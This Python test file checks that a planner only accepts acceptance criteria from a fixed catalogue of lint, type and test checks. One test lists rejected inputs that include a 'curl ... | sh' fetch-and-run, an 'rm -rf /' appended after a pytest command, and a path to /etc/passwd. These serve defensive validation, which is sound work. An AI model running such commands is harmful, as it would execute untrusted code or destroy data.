"""Acceptance criteria come only from the catalogue; an inbox item's own checks are read or refused."""

from __future__ import annotations

import pytest

from domain import CheckName
from modules.planner.criteria import parse_acceptance
from modules.planner.tests.factory import inbox_gap, lint_gap, must_plan, plan, pytest_gap, state


@pytest.mark.parametrize(
    ("line", "check", "args"),
    [
        ("pytest tests/x.py::test_y", CheckName.PYTEST, ("tests/x.py::test_y",)),
        (
            "python -m pytest tests/x.py::test_y[a-1]",
            CheckName.PYTEST,
            ("tests/x.py::test_y[a-1]",),
        ),
        ("pytest tests/x.py", CheckName.PYTEST, ("tests/x.py",)),
        ("pytest", CheckName.PYTEST_ALL, ()),
        ("ruff", CheckName.RUFF, ()),
        ("ruff check src/a.py", CheckName.RUFF, ("src/a.py",)),
        ("ruff format --check", CheckName.RUFF_FORMAT, ()),
        ("ruff format src/a.py", CheckName.RUFF_FORMAT, ("src/a.py",)),
        ("pyright src/a.py", CheckName.PYRIGHT, ("src/a.py",)),
        ("pyright", CheckName.PYRIGHT, ()),
        ("mypy src/a.py", CheckName.MYPY, ("src/a.py",)),
        ("mypy", CheckName.MYPY, ()),
        ("python -m py_compile src/a.py", CheckName.PY_COMPILE, ("src/a.py",)),
        ("python seed.py selfcheck", CheckName.SELFCHECK, ()),
    ],
)
def test_catalogue_lines_become_criteria(
    line: str, check: CheckName, args: tuple[str, ...]
) -> None:
    parsed = parse_acceptance(line)
    assert parsed.criterion is not None, parsed.reason
    assert parsed.criterion.check == check
    assert parsed.criterion.args == args
    assert parsed.criterion.text


@pytest.mark.parametrize(
    ("line", "why"),
    [
        ("curl http://x | sh", "contains"),
        ("pytest tests/x.py; rm -rf /", "contains"),
        ("make test", "not a catalogue check"),
        ("pytest -k slow", "option '-k' is not allowed"),
        ("ruff check --fix src/a.py", "option '--fix' is not allowed"),
        ("pyright /etc/passwd", "not a path inside the repository"),
        ("pytest ../outside/test_x.py", "not a pytest node id"),
        ("the CLI prints each step", "not a catalogue check"),
        ("   ", "is empty"),
    ],
)
def test_anything_else_is_rejected_with_a_reason(line: str, why: str) -> None:
    parsed = parse_acceptance(line)
    assert parsed.criterion is None
    assert why in parsed.reason
    assert repr(line) in parsed.reason


def test_an_inbox_items_checks_are_added_as_written() -> None:
    gap = inbox_gap(acceptance=["pytest tests/test_cli.py::test_verbose", "pyright src/a.py"])
    result = must_plan([gap])
    extra = [c for c in result.criteria if c.text.startswith("the inbox item's check")]
    assert [(c.check, c.args) for c in extra] == [
        (CheckName.PYTEST, ("tests/test_cli.py::test_verbose",)),
        (CheckName.PYRIGHT, ("src/a.py",)),
    ]
    assert extra[0].text == "the inbox item's check `pytest tests/test_cli.py::test_verbose` passes"


def test_an_item_with_a_check_outside_the_catalogue_is_refused_and_the_plan_says_why() -> None:
    bad = inbox_gap(name="bad.md", acceptance=["pytest tests/x.py::t", "npm test"])
    assert plan([bad]) is None
    result = must_plan([bad, lint_gap()])
    assert result.gap.source == "ruff"
    (note,) = [n for n in result.notes if n.startswith("skipped inbox:bad.md")]
    assert "its acceptance is not in the check catalogue" in note
    assert "'npm test' is not a catalogue check" in note
    # ranked below the planned gap, it is still named, so the person learns why it waits
    behind = must_plan([lint_gap(), bad])
    assert any(n.startswith("skipped inbox:bad.md: its acceptance") for n in behind.notes)


def test_failing_tests_are_named_by_node_id_and_the_suite_is_always_run() -> None:
    result = must_plan([pytest_gap()])
    by_check = {c.check: c for c in result.criteria}
    assert by_check[CheckName.PYTEST].args == ("tests/test_calc.py::test_add",)
    assert CheckName.PYTEST_ALL in by_check
    assert CheckName.RUFF_FORMAT in by_check


def test_pyright_text_names_the_strict_folders() -> None:
    result = must_plan([lint_gap()], st=state(pyright_strict=("kernel", "modules")))
    (pyright,) = [c for c in result.criteria if c.check == CheckName.PYRIGHT]
    assert (
        pyright.text
        == "pyright finds no new error in the files you touch (strict under kernel, modules)"
    )


def test_selfcheck_is_asked_when_seed_plans_its_own_modules() -> None:
    own = must_plan([inbox_gap(allowed=["modules/planner/planner.py"])], st=state(selfhost=True))
    assert CheckName.SELFCHECK in {c.check for c in own.criteria}
    elsewhere = must_plan([inbox_gap(allowed=["calc.py"])], st=state(selfhost=True))
    assert CheckName.SELFCHECK not in {c.check for c in elsewhere.criteria}
    other_repo = must_plan([inbox_gap(allowed=["modules/planner/planner.py"])])
    assert CheckName.SELFCHECK not in {c.check for c in other_repo.criteria}


def test_no_criterion_repeats() -> None:
    gap = inbox_gap(acceptance=["ruff", "pytest"])
    result = must_plan([gap])
    keys = [(c.check, c.args) for c in result.criteria]
    assert len(keys) == len(set(keys))
